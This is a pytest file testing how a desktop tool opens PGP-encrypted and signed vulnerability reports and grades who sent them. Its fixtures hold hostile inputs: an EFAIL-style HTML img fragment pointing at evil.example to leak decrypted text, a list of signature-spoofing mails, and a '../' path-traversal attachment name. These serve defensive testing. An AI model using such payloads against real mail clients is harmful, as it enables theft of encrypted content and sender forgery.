"""From the bytes that came to what a handler reads, and what is proved of the sender."""

import shutil
import tempfile
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest

from desktop.domain.digest import sha256
from desktop.domain.failures import Malformed, NoKey, SeveralMessages, TooDeep, Unsupported
from desktop.openpgp.gpg import Gpg
from desktop.sandbox.parser import SandboxedParser
from desktop.workflows.intake.open_report import OUTSIDE_NAME, open_report
from desktop.workflows.ports import Silent
from tests.workflows.opening import Home, mail, pgp_mime, signed_entity, signed_mail, tools_of

INTAKE, RAE, EVE = "Intake <sec@vendor.example>", "Rae <rae@example.org>", "Eve <eve@evil.example>"
ENTITY = b'Content-Type: text/plain; charset=utf-8; protected-headers="v1"\nSubject: Inner\n\nThe report.\n'


@pytest.fixture(scope="module")
def home():
    path = Path(tempfile.mkdtemp(prefix="e", dir="/tmp"))
    made = Home(path)
    for user_id in (INTAKE, RAE, EVE):
        made.make_key(user_id)
    yield made
    made.end()
    shutil.rmtree(path, ignore_errors=True)


@pytest.fixture(scope="module")
def tools(home):
    gpg, parser = Gpg(home.path), SandboxedParser()
    yield tools_of(gpg, parser)
    parser.close()
    gpg.close()


@pytest.fixture
def look(tools):
    def look(raw, *, at=None, known_keys=()):
        return open_report(raw, tools, known_keys, at=at or datetime.now(UTC), progress=Silent())

    return look


@pytest.fixture
def seal(home):
    def seal(content, *sign, **options):
        return home.encrypt(content, to=INTAKE, sign=sign, **options)

    return seal


def states(report):
    return [signer.state for signer in report.signature.signers]


def test_a_signed_and_encrypted_report(look, seal):
    raw = pgp_mime(seal(ENTITY, RAE))
    opened = look(raw)
    report = opened.report
    assert (report.kind, report.encryption, report.signature.verdict) == ("pgp-mime", "decrypted", "good")
    assert (report.subject.raw, report.subject_protected) == ("Inner", True)
    assert (report.text.raw, report.reporter.grade) == ("The report.\n", "signed")
    assert (opened.sealed, opened.plaintext) == (raw, ENTITY)
    assert report.warnings == ()


def test_an_encrypted_report_without_signature(look, seal):
    report = look(pgp_mime(seal(ENTITY))).report
    assert (report.signature.verdict, report.reporter.grade) == ("none", "encrypted-only")


def test_a_plain_report_is_only_claimed(look):
    opened = look(mail("Ein Loch im Zaun: größer\n".encode()))
    report = opened.report
    assert (report.kind, report.encryption, report.reporter.grade) == ("plain", "not-encrypted", "claimed")
    assert (report.text.raw, opened.plaintext) == ("Ein Loch im Zaun: größer\n", b"")


def test_an_inline_report(look, seal):
    report = look(mail(seal(b"The report.\n", RAE))).report
    assert (report.kind, report.text.raw, report.reporter.grade) == ("pgp-inline", "The report.\n", "signed")


def test_a_bare_armoured_file_names_no_sender(look, seal):
    report = look(seal(ENTITY, RAE)).report
    assert (report.signature.verdict, report.reporter.grade) == ("good", "encrypted-only")
    assert report.reporter.address.raw == ""
    assert report.text.raw == "The report.\n"


def test_signed_within_encrypted_is_peeled(look, seal, home):
    report = look(pgp_mime(seal(signed_entity(home, ENTITY, RAE)))).report
    assert (report.signature.verdict, report.reporter.grade) == ("good", "signed")
    assert (report.subject.raw, report.text.raw, report.warnings) == ("Inner", "The report.\n", ())


def test_encryption_within_encryption_is_told(look, seal):
    inner = pgp_mime(seal(ENTITY)).partition(b"Subject: Outer\n")[2]
    report = look(pgp_mime(seal(inner))).report
    assert (report.text.raw, report.warnings) == ("The report.\n", ("layers-peeled",))


def test_too_many_layers_are_refused(look, seal):
    content = ENTITY
    for _ in range(5):
        content = seal(content)
    with pytest.raises(TooDeep):
        look(mail(content))


def test_attachments_and_offered_keys_come_with_their_bytes(look, seal, home):
    key = home.gpg("--armor", "--export", RAE)
    entity = b"Content-Type: multipart/mixed; boundary=m\n\n--m\n\nhi\n--m\n"
    entity += b"Content-Type: application/pgp-keys; name=rae.asc\n\n" + key + b"\n--m\n"
    entity += b'Content-Type: application/zip; name="../poc.zip"\n'
    entity += b"Content-Transfer-Encoding: base64\n\nUEsDBA==\n--m--\n"
    opened = look(pgp_mime(seal(entity)))
    assert [a.shown_name for a in opened.report.attachments] == ["rae.asc", "poc.zip"]
    assert opened.contents[opened.report.attachments[1].sha256] == b"PK\x03\x04"
    assert "attachment-name-changed" in opened.report.warnings
    offered = opened.contents[opened.report.key_offers[0]]
    assert offered.strip() == key.strip()
    assert opened.report.offered == (home.fingerprint(RAE),)
    assert all(sha256(content) == name for name, content in opened.contents.items())


@pytest.mark.checks("A1")
def test_efail_parts_are_opened_apart_and_the_rest_is_set_aside(look, seal):
    body = b'--m\nContent-Type: text/html\n\n<img src="http://evil.example/\n--m\n'
    body += b"Content-Type: application/pgp-encrypted\n\nVersion: 1\n--m\n"
    body += b"Content-Type: application/octet-stream\n\n" + seal(ENTITY) + b"\n--m\n"
    body += b'Content-Type: text/html\n\n">\n--m--\n'
    opened = look(mail(body, kind="multipart/mixed; boundary=m"))
    report = opened.report
    assert report.text.raw == "The report.\n"
    assert {"partly-encrypted", "mixed-content"} <= set(report.warnings)
    assert not report.subject_protected
    assert [a.shown_name for a in report.attachments] == [OUTSIDE_NAME]
    assert b"The report" not in opened.contents[report.attachments[0].sha256]


@pytest.mark.checks("A1", "A5")
def test_several_encrypted_parts_are_refused(look, seal):
    with pytest.raises(SeveralMessages):
        look(mail(seal(b"one") + b"\n" + seal(b"two")))


@pytest.mark.checks("A12")
@pytest.mark.parametrize("sender", [EVE, "rae@example.com", "RAE@example.org"])
def test_a_signature_of_somebody_else_is_not_good_and_says_whose(look, seal, sender):
    report = look(pgp_mime(seal(ENTITY, RAE), sender=sender)).report
    assert (report.signature.verdict, states(report)) == ("not-good", ["uid-mismatch"])
    reason = report.signature.signers[0].reason
    assert RAE in reason
    assert sender.partition("<")[2].strip(">") in reason
    assert report.reporter.grade == "encrypted-only"


def test_the_domain_of_a_signer_may_be_written_in_any_case(look, seal):
    assert look(pgp_mime(seal(ENTITY, RAE), sender="rae@EXAMPLE.org")).report.signature.verdict == "good"


@pytest.mark.checks("A13")
def test_two_signers_are_both_listed(look, seal):
    report = look(pgp_mime(seal(ENTITY, RAE, EVE))).report
    assert sorted(states(report)) == ["good", "uid-mismatch"]
    assert report.signature.verdict == "not-good"


def spoofs(home):
    """Messages that want to look signed by Rae, who signed only `real`."""
    real = b"Content-Type: text/plain\n\nreal\n"
    signed = signed_entity(home, real, RAE)
    clear = home.clearsign(b"real\n", RAE)
    forged = b"Content-Type: text/plain\n\nforged\n"
    mixed = b"--m\n" + signed + b"\n--m\n" + forged + b"--m--\n"
    yield "text after the signed part", mail(mixed, kind="multipart/mixed; boundary=m")
    yield (
        "text before the signed part",
        mail(b"--m\n" + forged + mixed[:-6] + b"--m--\n", kind="multipart/mixed; boundary=m"),
    )
    yield (
        "signed mail attached",
        mail(
            b"--m\n" + forged + b"--m\nContent-Type: message/rfc822\n\nFrom: x@y.z\n" + signed + b"--m--\n",
            kind="multipart/mixed; boundary=m",
        ),
    )
    yield (
        "three parts",
        mail(
            signed.replace(b"--s--", b"--s\n\nforged\n--s--").partition(b"\n\n")[2],
            kind="multipart/signed; boundary=s",
        ),
    )
    yield (
        "changed text",
        mail(signed.replace(b"real", b"fake").partition(b"\n\n")[2], kind="multipart/signed; boundary=s"),
    )
    yield "forged before a clearsigned text", mail(b"forged\n" + clear)
    yield "forged after a clearsigned text", mail(clear + b"forged\n")
    yield "clearsigned with a form feed", mail(b"forged\n\x0c\n" + clear)
    yield "two From lines", signed_mail(home, real, RAE, headers=f"From: {EVE}\n")
    yield "display name", signed_mail(home, real, EVE, sender='"rae@example.org" <eve@evil.example.com>')
    yield (
        "signer hidden behind another",
        signed_mail(home, real, EVE, sender="rae@example.org <eve@evil.example>"),
    )
    yield "own signature, other sender", signed_mail(home, real, EVE)


@pytest.mark.checks("A11")
def test_no_spoof_is_graded_as_signed(look, home, figure):
    tried = list(spoofs(home))
    for name, raw in tried:
        report = look(raw).report
        assert report.reporter.grade != "signed", name
        if "hidden behind" not in name:
            assert report.signature.verdict != "good", name
    figure("A11", f"0 of {len(tried)} spoofed mails graded as signed")


@pytest.mark.checks("A11")
def test_an_encrypted_sender_that_contradicts_the_outer_one_is_ambiguous(look, seal):
    entity = ENTITY.replace(b"Subject:", b"From: Eve <eve@evil.example>\nSubject:")
    report = look(pgp_mime(seal(entity, EVE))).report
    assert report.reporter.grade == "ambiguous"
    assert "ambiguous-sender" in report.warnings
    assert report.signature.verdict == "not-good"


@pytest.mark.checks("A16")
def test_of_a_clearsigned_text_only_what_gpg_emitted_is_shown(look, home):
    clear = home.clearsign(b"- dashes\nreal\n", RAE)
    whole = look(mail(clear)).report
    assert (whole.text.raw, whole.signature.verdict, whole.reporter.grade) == (
        "- dashes\nreal\n",
        "good",
        "signed",
    )
    around = look(mail(b"before\x0c\n" + clear + b"after\n"))
    assert around.report.text.raw == "- dashes\nreal\n"
    assert states(around.report) == ["outside-the-signed-part"]
    assert "partly-signed" in around.report.warnings
    aside = around.contents[around.report.attachments[0].sha256]
    assert aside == b"before\x0c\nafter\n"


def test_a_good_detached_signature_protects_its_subject_a_bad_one_does_not(look, home):
    good = signed_mail(home, ENTITY, RAE)
    report = look(good).report
    assert (report.encryption, report.signature.verdict, report.reporter.grade) == (
        "not-encrypted",
        "good",
        "signed",
    )
    assert (report.subject.raw, report.subject_protected) == ("Inner", True)
    bad = look(good.replace(b"The report", b"A forgery")).report
    assert (bad.signature.verdict, states(bad), bad.reporter.grade) == ("not-good", ["bad"], "claimed")
    assert (bad.subject.raw, bad.subject_protected, bad.text.raw) == ("Outer", False, "A forgery.\n")


def test_what_is_no_signature_proves_nothing_and_hides_nothing(look, home):
    raw = signed_mail(home, ENTITY, RAE)
    head, _, tail = raw.partition(b"-----BEGIN PGP SIGNATURE-----")
    report = look(head + b"nonsense" + tail[tail.index(b"\n--s--") :]).report
    assert (report.signature.verdict, states(report), report.text.raw) == (
        "not-good",
        ["bad"],
        "The report.\n",
    )


@pytest.mark.checks("A14")
@pytest.mark.parametrize(("days", "late"), [(6, False), (8, True), (-8, True)])
def test_a_signature_far_from_the_arrival_is_told(look, home, days, late):
    made = datetime.now(UTC)
    arrived = (made + timedelta(days=days)).strftime("%d %b %Y %H:%M:%S +0000")
    raw = signed_mail(home, ENTITY, RAE, headers=f"Received: from a by b; {arrived}\n")
    report = look(raw, at=made + timedelta(days=30)).report
    assert ("late-signature" in report.warnings) == late
    assert report.signature.verdict == "good"


@pytest.mark.parametrize(
    ("date", "implausible"),
    [
        ("Mon, 02 Nov 2026 09:00:00 +0000", False),
        ("1 Jan 1971 00:00:00 +0000", True),
        ("1 Jan 2101 00:00 +0000", True),
    ],
)
def test_a_date_that_cannot_be_true_is_told(look, date, implausible):
    report = look(mail(b"x", headers=f"Date: {date}\n"), at=datetime(2026, 11, 10, tzinfo=UTC)).report
    assert ("date-implausible" in report.warnings) == implausible


def test_a_message_to_somebody_else_needs_a_key_that_is_not_here(look, seal, tools, home):
    path = Path(tempfile.mkdtemp(prefix="e", dir="/tmp"))
    gpg = Gpg(path)
    try:
        with pytest.raises(NoKey):
            open_report(
                pgp_mime(seal(ENTITY)), tools_of(gpg, tools.parser), at=datetime.now(UTC), progress=Silent()
            )
    finally:
        gpg.close()
        shutil.rmtree(path, ignore_errors=True)


def test_a_reporters_key_from_the_vault_checks_a_signature(look, seal, tools, home):
    key = home.gpg("--armor", "--export", RAE)
    path = Path(tempfile.mkdtemp(prefix="e", dir="/tmp"))
    gpg = Gpg(path)
    there = tools_of(gpg, tools.parser)
    raw, at = signed_mail(home, ENTITY, RAE), datetime.now(UTC)
    try:
        assert states(open_report(raw, there, at=at, progress=Silent()).report) == ["unknown-key"]
        assert states(open_report(raw, there, [key], at=at, progress=Silent()).report) == ["good"]
    finally:
        gpg.close()
        shutil.rmtree(path, ignore_errors=True)


@pytest.mark.parametrize(
    ("raw", "failure"),
    [
        (b"", Malformed),
        (b"%PDF-1.7", Malformed),
        (mail(b"MIIB", kind="application/pkcs7-mime"), Unsupported),
        (mail(b"-----BEGIN PGP MESSAGE-----\n\nhF4D\n-----END PGP MESSAGE-----\n"), Malformed),
    ],
)
def test_what_cannot_be_opened_ends_in_a_sentence(look, raw, failure):
    with pytest.raises(failure) as caught:
        look(raw)
    assert caught.value.message
    assert caught.value.advice
    assert caught.value.written == "Nothing was written."


@pytest.mark.clause("TER-2.2c")
def test_an_attachment_is_what_its_first_bytes_say(look):
    entity = (
        b'Content-Type: multipart/mixed; boundary="b"\n\n--b\n\nSee the picture.\n--b\n'
        b'Content-Type: image/png\nContent-Disposition: attachment; filename="a.png"\n'
        b"Content-Transfer-Encoding: base64\n\nUEsDBAo=\n--b--\n"
    )
    report = look(b"From: Rae <rae@example.org>\nSubject: x\n" + entity).report
    assert [(a.shown_name, a.media_type) for a in report.attachments] == [("a.png", "application/zip")]
